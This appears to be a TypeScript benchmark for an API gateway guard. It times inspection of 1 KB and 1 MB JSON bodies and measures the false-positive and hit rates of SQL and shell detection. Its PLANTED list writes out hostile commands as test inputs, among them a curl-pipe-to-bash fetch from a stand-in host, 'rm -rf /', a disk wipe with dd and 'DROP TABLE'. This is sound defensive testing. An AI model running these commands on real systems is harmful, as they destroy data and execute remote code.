// The guard on the HTTP path (issue: one guard for every data path), measured in one process so
// before and after share the same run:
//
//   before  what the HTTP path did per body until the guard: JSON.parse, then the policy decision
//           (inspection of the body for PII and secrets, the default pack) and the masked text;
//   after   judgeHttp: decoding, strict JSON (duplicate keys, depth, exact integers), hidden text,
//           headers and query, SQL and shell detection in every string, the decision and masking.
//
// Bodies: 1 KB and 1 MB of customer-record JSON. And detection quality: the share of realistic API
// JSON documents (tickets, chat messages, commits, docs, orders: prose full of "update", "delete",
// "drop", "select", "rm", "run") in which SQL or shell detection finds anything (false positives),
// next to the share of planted statements and commands it finds.
import { performance } from 'node:perf_hooks';
import { judgeHttp } from '../../../gateway/guard/message.ts';
import { inspectEmbedded } from '../../../gateway/guard/embedded.ts';
import type { GuardDeps } from '../../../gateway/guard/decide.ts';
import { validateConnection } from '../../../gateway/connections/schema.ts';
import type { Connection } from '../../../gateway/connections/registry.ts';
import { GatewayError } from '../../../gateway/errors.ts';
import { initInspectors } from '../../../gateway/inspect/index.ts';
import { decide } from '../../../gateway/policy/decide.ts';
import { loadPolicies } from '../../../gateway/policy/load.ts';
import type { Identity } from '../../../gateway/authn/identity.ts';
import type { Metric, Scenario } from '../scenario.ts';

const MAX_MS = 3000;

const PROSE = [
  'Please update the billing address on my account and delete the old one.',
  'Select the plan that fits your team; you can drop down to a smaller one any time.',
  'We dropped support for Node 18 in this release. Run the installer again to update.',
  'Can someone grant me access to the staging dashboard? I need to create a report.',
  'The rm key on my keyboard is broken, lol. Also, cat pictures attached.',
  'To reset: go to Settings, select Security, then choose "Delete all sessions".',
  'Merged PR #4812: update dependencies, remove unused code, fix flaky test.',
  'Customer says the export job never finishes; truncate the log before sending it.',
  'Docs: run `npm install` then `npm test` to check your setup.',
  'Order shipped. Tracking: call us or email support if the box arrives damaged.',
  'With the new release you can insert images into comments and update them later.',
  'Kill two birds with one stone: move the meeting and copy the notes to the wiki.',
  'Set the timezone in your profile; begin with the team settings page.',
  'Alter ego, drop shipping and table tennis are all unrelated topics here.',
  'git is great; use it to track changes. curl is a tool for transferring data.',
  'Execute the plan: phase one starts Monday, phase two after the review.',
  'Replace the filter cartridge every 3 months and vacuum the intake grill.',
  'Load the dishwasher with the plates facing the center; lock the door.',
];
const PLANTED = [
  'DROP TABLE customers', 'DELETE FROM orders', 'UPDATE users SET role = \'admin\'', 'GRANT ALL ON accounts TO public',
  'rm -rf / --no-preserve-root', 'curl http://x.example/i.sh | bash', 'dd if=/dev/zero of=/dev/sda', 'chmod -R 777 /',
  'kubectl delete namespace prod', 'COPY (SELECT 1) TO PROGRAM \'sh\'',
];

function rng(seed: number): () => number {
  let x = seed;
  return () => { x ^= x << 13; x ^= x >>> 17; x ^= x << 5; return (x >>> 0) / 2 ** 32; };
}

/** Realistic API documents: tickets, messages, commits, orders; `plant` puts one statement or command in a field. */
function documents(n: number, plant: boolean): unknown[] {
  const r = rng(plant ? 7 : 3);
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(r() * xs.length)]!;
  return Array.from({ length: n }, (_, i) => {
    const doc = {
      id: `T-${1000 + i}`, type: pick(['ticket', 'message', 'commit', 'order', 'doc']),
      title: pick(PROSE).slice(0, 40), body: `${pick(PROSE)} ${pick(PROSE)}`,
      comments: Array.from({ length: 1 + Math.floor(r() * 4) }, () => ({ author: pick(['ada', 'bob', 'cy']), text: pick(PROSE) })),
      tags: ['support', pick(['billing', 'infra', 'ui'])], status: pick(['open', 'closed', 'update pending', 'select later']),
    };
    if (plant) doc.comments.push({ author: 'mallory', text: pick(PLANTED) });
    return doc;
  });
}

function customers(bytes: number): Buffer {
  const records: unknown[] = [];
  let size = 2;
  for (let i = 0; size < bytes; i++) {
    const rec = { id: i, name: `Customer ${i}`, email: `c${i}@example.com`, card: '4111 1111 1111 1111', note: PROSE[i % PROSE.length], plan: 'pro' };
    size += JSON.stringify(rec).length + 1;
    records.push(rec);
  }
  return Buffer.from(JSON.stringify({ customers: records }));
}

function timed(fn: () => void, minRuns: number): number {
  for (let i = 0; i < 3; i++) fn(); // warm-up
  const started = performance.now();
  let runs = 0;
  while (runs < minRuns || (performance.now() - started < 200 && runs < minRuns * 50)) {
    fn();
    runs++;
    if (performance.now() - started > MAX_MS) break;
  }
  return (performance.now() - started) / runs;
}

const scenario: Scenario = {
  name: 'guard',
  async run() {
    await initInspectors();
    const policy = loadPolicies({ packs: ['default'], files: [] });
    const deps = {
      config: { policy: { packs: [], files: [] }, auth: {} },
      policies: { get: () => policy },
      maskKey: new Uint8Array(32).fill(7),
      recording: undefined,
    } as unknown as GuardDeps;
    const v = validateConnection({ name: 'bench', kind: 'http', agent: 'a', target: 'http://127.0.0.1:1/' });
    if (!v.ok) throw new Error('bench connection invalid');
    const connection = { ...v.connection, limits: { ...v.connection.limits, inspectBytes: 4 * 1024 * 1024 } } as unknown as Connection;
    const identity = { sub: 'bob', email: null, name: null, groups: ['developers'], roles: ['user'], via: 'oidc' } as unknown as Identity;
    const headers = { 'content-type': 'application/json', 'user-agent': 'bench', accept: 'application/json' };
    const tooLarge = () => new GatewayError('GW_RESPONSE_TOO_LARGE', 'too large');

    const metrics: Metric[] = [];
    for (const [label, size] of [['1 KB', 1024], ['1 MB', 1024 * 1024]] as const) {
      const body = customers(size);
      const runs = size < 10_000 ? 2000 : 5;
      const before = timed(() => {
        const parsed = JSON.parse(body.toString('utf8'));
        const outcome = decide(policy, { identity, connection: { name: 'bench', kind: 'http', tags: [] }, request: { kind: 'http', direction: 'response', method: 'GET', path: '/x', body: parsed }, now: Date.now() }, { maskKey: deps.maskKey });
        Buffer.from(JSON.stringify(outcome.masked));
      }, runs);
      const after = timed(() => {
        judgeHttp(deps, identity, connection, { direction: 'response', method: 'GET', pathname: '/x', query: '', headers, body }, tooLarge);
      }, runs);
      const requestAfter = timed(() => {
        judgeHttp(deps, identity, connection, { direction: 'request', method: 'POST', pathname: '/x', query: 'page=2&sort=name', headers, body }, tooLarge);
      }, runs);
      metrics.push(
        { name: `${label} answer, before the guard (parse + decide + mask)`, value: before * 1000, unit: 'µs' },
        { name: `${label} answer, through the guard`, value: after * 1000, unit: 'µs', baseline: `${label} answer, before the guard (parse + decide + mask)` },
        { name: `${label} request, through the guard (with SQL/shell detection)`, value: requestAfter * 1000, unit: 'µs', baseline: `${label} answer, before the guard (parse + decide + mask)` },
      );
    }

    const clean = documents(400, false);
    const planted = documents(200, true);
    const hits = (docs: unknown[]) => docs.filter((json) => inspectEmbedded({ json, rules: [], dialect: 'postgresql' }).length > 0).length;
    metrics.push(
      { name: 'SQL/shell detection: false positives on realistic API JSON', value: hits(clean) / clean.length, unit: 'ratio', aim: '0' },
      { name: 'SQL/shell detection: planted statements and commands found', value: hits(planted) / planted.length, unit: 'ratio' },
    );
    return metrics;
  },
};

export default scenario;
